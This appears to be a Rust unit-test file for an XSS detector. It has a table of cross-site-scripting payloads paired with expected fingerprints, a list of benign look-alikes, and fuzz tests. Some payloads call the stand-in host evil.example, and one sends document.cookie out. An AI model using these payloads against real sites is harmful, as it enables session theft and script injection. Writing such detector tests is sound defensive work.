//! Table-driven tests of the whole detector: attacks in every context, benign text
//! that looks a little like them, and hostile inputs that must not panic.

use super::xss;
use crate::detect::test_support::{self, Xorshift};

/// Attacks and the fingerprint prefix each should produce.
const ATTACKS: &[(&str, &str)] = &[
    // HTML text: tags with handlers, any element name.
    ("<svg onload=alert(1)>", "tag:svg/onload"),
    ("<svg/onload=alert(1)>", "tag:svg/onload"),
    ("<img src=x onerror=alert(1)>", "tag:img/onerror"),
    ("<x onfocusin=alert(1) tabindex=1>", "tag:x/onfocusin"),
    (
        "<my-element ontransitionend=alert(1)>",
        "tag:my-element/ontransitionend",
    ),
    (
        "<element onbeforecopy=\"alert(1)\" contenteditable>test</element>",
        "tag:element/onbeforecopy",
    ),
    ("<IMG SRC=x OnErRoR=alert(1)>", "tag:img/onerror"),
    ("<img\x0bsrc=x\x11onerror=alert(1)>", "tag:img/onerror"),
    ("<img src=x onerror=alert(1)//", "tag:img/onerror"),
    ("<X onxxx=1", "tag:x/onxxx"),
    ("<details open ontoggle=confirm()>", "tag:details/ontoggle"),
    // Script elements, split and padded.
    ("<script>alert(1)</script>", "tag:script"),
    ("<ScRiPt src=//evil.example/x.js></script>", "tag:script"),
    ("<scr<script>ipt>alert(1)</script>", "tag:script"),
    ("\"><script>alert(document.cookie)</script>", "tag:script"),
    ("</script><script>alert(1)</script>", "tag:script"),
    ("<svg><script xlink:href=data:,alert(1) />", "tag:script"),
    // Script URLs in attributes, with obfuscations.
    ("<a href=javascript:alert(1)>x</a>", "tag:a/href=javascript"),
    (
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "tag:a/href=javascript",
    ),
    (
        "<a href=\"&#14;javascript:alert(1)\">x</a>",
        "tag:a/href=javascript",
    ),
    (
        "<A href=javas%26#99;ript:alert(1)>click",
        "tag:a/href=javascript",
    ),
    (
        "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
        "tag:a/href=javascript",
    ),
    (
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "tag:iframe/src=data",
    ),
    (
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "tag:object/data=data",
    ),
    (
        "<form><button formaction=javascript:alert(1)>x",
        "tag:button/formaction=javascript",
    ),
    (
        "<svg><a xlink:href=\"javascript:alert(1)\">",
        "tag:a/xlink:href=javascript",
    ),
    (
        "<isindex action=javascript:alert(1) type=submit>",
        "tag:isindex/action=javascript",
    ),
    (
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
        "tag:meta/content=javascript",
    ),
    (
        "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "tag:",
    ),
    // Styles that run script.
    (
        "<div style=\"width: expression(alert(1));\">",
        "tag:div/style:expression",
    ),
    (
        "<div style=\"background-image: url(javascript:alert(1))\">",
        "tag:div/style=javascript",
    ),
    (
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE>",
        "style:javascript",
    ),
    (
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
        "tag:img/style:expression",
    ),
    // Elements that load active content.
    ("<base href=//evil.example>", "tag:base"),
    (
        "<meta http-equiv=\"set-cookie\" content=\"a=b\">",
        "tag:meta",
    ),
    ("<iframe src=http://evil.example/>", "tag:iframe"),
    ("<link rel=import href=//evil.example/x.html>", "tag:link"),
    ("<svg><set attributeName=href to=//evil.example>", "tag:set"),
    (
        "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
        "tag:span/dataformatas",
    ),
    (
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "pi:import",
    ),
    // Encodings of whole payloads.
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "tag:script"),
    ("%3Csvg%20onload%3Dalert(1)%3E", "tag:svg/onload"),
    (
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "tag:img/onerror",
    ),
    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "tag:script"),
    (
        "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
        "tag:script",
    ),
    (
        "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert(1);\">]]>",
        "tag:img/src=javascript",
    ),
    (
        "https://shop.example/search?q=%3Cbase+href%3D%2F%2Fevil%3E",
        "tag:base",
    ),
    // Attribute context: breaking out of a quoted or unquoted value.
    ("\" autofocus onfocus=alert(1) x=\"", "tag:/onfocus"),
    ("' onmouseover='alert(1)", "tag:/onmouseover"),
    ("x onmouseover=alert(1)", "tag:/onmouseover"),
    ("\"onmouseover=alert(1)//", "tag:/onmouseover"),
    // URL context.
    ("javascript:alert(document.cookie)", "url:javascript"),
    ("  JaVaScRiPt:alert(1)", "url:javascript"),
    ("java%0ascript:alert(1)", "url:javascript"),
    ("javascript://%0aalert(1)", "url:javascript"),
    ("vbscript:msgbox(\"XSS\")", "url:vbscript"),
    (
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "url:data",
    ),
    ("/redirect?next=javascript:alert(1)", "url:javascript"),
    // Script context.
    ("';alert(1)//", "js:breakout"),
    ("\"-alert(1)-\"", "js:breakout"),
    ("'-confirm(1)-'", "js:breakout"),
    ("\\\";alert('XSS');//", "js:breakout"),
    ("'); alert('XSS", "js:breakout"),
    ("'}};fetch('//evil.example/'+x);{{'", "js:breakout"),
    ("';alert(String.fromCharCode(88,83,83))//", "js:breakout"),
    ("alert(1)", "js:call:alert"),
    ("alert`1`", "js:call:alert"),
    ("${alert(document.domain)}", "js:call:alert"),
    ("eval(atob('YWxlcnQoMSk='))", "js:call:eval"),
    ("onerror=alert;throw 1", "js:ref:alert"),
    ("[1].find(alert)", "js:ref:alert"),
    ("(alert)(1)", "js:ref:alert"),
    ("top['al'+'ert'](1)", "js:global:top"),
    ("self['alert'](1)", "js:global:self"),
    ("{{constructor.constructor('alert(1)')()}}", "js:"),
    (
        "new Image().src='//evil.example/?'+document.cookie",
        "js:prop:document.cookie",
    ),
    (
        "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]",
        "js:jsfuck",
    ),
    ("'';!--\"<XSS>=&{()}", "js:entity"),
    // Probes.
    ("&#x3C;", "probe:encoded-lt"),
    ("</script>", "endtag:script"),
];

/// Values that must not be taken for attacks.
const BENIGN: &[&str] = &[
    "O'Reilly",
    "O'Reilly and sons; est. 1978 (Sebastopol)",
    "select a size",
    "1 or 2 items",
    "rock & roll",
    "Tom & Jerry's \"best\" show",
    "a < b and c > d",
    "I <3 you",
    "<3",
    "x<y",
    ">:( and :-) and <:-)",
    "if (a < b) { c > d }",
    "<b>bold</b> and <i>italic</i> in a review",
    "<a href=\"https://example.com/\">my site</a>",
    "<p class=note>Hello</p><br><hr/>",
    "<iframe>",
    "Handle<Object> obj = Local<Object>::New()",
    "<meta charset=\"utf-8\">",
    "https://www.example.com/search?q=javascript+tutorial&page=2",
    "/blog/geekery/ie-javascript-error.html",
    "/blog/tags/alert",
    "/scripts/python/wrap/?C=N;O=D",
    "john.doe+test@example.com",
    "JavaScript: The Good Parts (Crockford)",
    "Learn javascript: it is fun",
    "javascript:",
    "data:image/png;base64,iVBORw0KGgo=",
    "Please confirm (yes/no) your order",
    "the prompt (or any text before it)",
    "alert me when the price drops",
    "eval() and input() functions",
    "`--eval` or `STDIN`",
    "`setTimeout`, `clearTimeout`",
    "The \"Pro\"-model (2020) is great; don't buy the 'Lite' one.",
    "She said: \"It's fine\"; then left (quietly).",
    "'Tis but a scratch; \"a flesh wound\" (said he)",
    "KING LEAR: O, reason not the need!--'Tis all; and then (aside) go.",
    "onion=3 carrots=4 online=yes",
    "onError = (err) => handle(err)",
    "C:\\Program Files\\App\\bin",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "en-US,en;q=0.9,es;q=0.8",
    "192.168.1.1, 10.0.0.1",
    "Calle de Alcalá 42, 3º izq. (Madrid)",
    "4111 1111 1111 1111",
    "12/05/2024",
    "Item #42 - \"Blue\" T-shirt (size M) + 2x socks",
    "Price: $19.99 (incl. VAT) - 20% off!",
    "1' or '1'='1",
    "a+b-c+d",
    "+Hello-world+",
    "&lt;b&gt;escaped&lt;/b&gt;",
    "&amp; &quot;quoted&quot;",
];

#[test]
fn attacks_are_detected() {
    for (input, fingerprint) in ATTACKS {
        let hit = xss(input.as_bytes()).unwrap_or_else(|| panic!("missed: {input}"));
        assert!(
            hit.confidence >= 0.5,
            "{input}: confidence {}",
            hit.confidence
        );
        assert!(
            hit.fingerprint.starts_with(fingerprint),
            "{input}: fingerprint {} not {fingerprint}",
            hit.fingerprint
        );
        assert!(!hit.fragment.is_empty(), "{input}: empty fragment");
    }
}

#[test]
fn benign_values_pass() {
    for input in BENIGN {
        let hit = xss(input.as_bytes());
        assert!(hit.is_none(), "false positive on {input}: {hit:?}");
    }
}

#[test]
fn strong_constructs_are_confident() {
    for input in [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<a href=javascript:alert(1)>",
    ] {
        let hit = xss(input.as_bytes()).expect("an attack");
        assert!(hit.confidence >= 0.9, "{input}: {}", hit.confidence);
    }
    let weak = xss(b"</script>").expect("a probe");
    assert!(weak.confidence < 0.7);
}

#[test]
fn fragment_starts_at_the_construct() {
    let hit = xss(b"hello world <svg onload=alert(1)>").expect("an attack");
    assert!(
        hit.fragment.starts_with(b"onload"),
        "{:?}",
        String::from_utf8_lossy(&hit.fragment)
    );
    let hit = xss(b"see javascript:alert(1)").expect("an attack");
    assert!(hit.fragment.starts_with(b"javascript:"));
}

/// Checks the promises every detector makes on one input.
fn check(input: &[u8]) {
    test_support::assert_sound(xss, input);
}

#[test]
fn hostile_inputs_do_not_panic() {
    let all_bytes: Vec<u8> = (0..=255).collect();
    check(&all_bytes);
    for b in 0..=255u8 {
        check(&[b]);
        check(&[b'<', b]);
        check(&[b'&', b'#', b]);
        check(&[b'\\', b]);
        check(&[b'%', b]);
        check(&[b'+', b]);
        check(&[0xEF, b]);
    }
    for unit in [
        &b"'"[..],
        b"\"",
        b"`",
        b"<",
        b"<a ",
        b"<a x=\"",
        b"&#",
        b"&#x",
        b"&#99999999999999999999",
        b"\\u{",
        b"\\u{FFFFFFFFF}",
        b"%u",
        b"+A",
        b"+ADw",
        b"javascript:",
        b"java\t",
        b"data:",
        b"';a(",
        b"alert(",
        b"(((",
        b"[]!+",
        b"/*",
        b"&{",
        b"<style>",
        b"\xEF\xBC",
        b"\xff\xfe",
        b"\0",
    ] {
        check(unit);
        check(&unit.repeat(5_000));
    }
    // Truncations of real payloads.
    for (input, _) in ATTACKS {
        for end in 0..input.len() {
            check(&input.as_bytes()[..end]);
        }
    }
}

#[test]
fn pseudo_random_inputs_do_not_panic() {
    // Bytes drawn mostly from the syntax the scanners care about.
    const ALPHABET: &[u8] = b"<>/=\"'` \t\n\0&#x;%+\\:()[]{}!-*.,aeijlnoprstuvxADw39";
    let mut rng = Xorshift::new(0x2545_F491_4F6C_DD1D);
    for _ in 0..4000 {
        let len = (rng.next() % 64) as usize;
        let input: Vec<u8> = (0..len)
            .map(|_| {
                let r = rng.next();
                if r.is_multiple_of(8) {
                    (r >> 8) as u8
                } else {
                    ALPHABET[(r >> 8) as usize % ALPHABET.len()]
                }
            })
            .collect();
        check(&input);
    }
}

#[test]
fn large_inputs_finish() {
    // Long runs of everything that starts a scan: each must stay linear.
    let mut input = Vec::new();
    for chunk in [
        &b"<a b='"[..],
        b"';a(",
        b"+AD",
        b"&#x3",
        b"\\u00",
        b"javas",
        b"on=(",
        b"<!--",
        b"top['",
    ] {
        input.clear();
        while input.len() < 1 << 18 {
            input.extend_from_slice(chunk);
        }
        check(&input);
    }
}
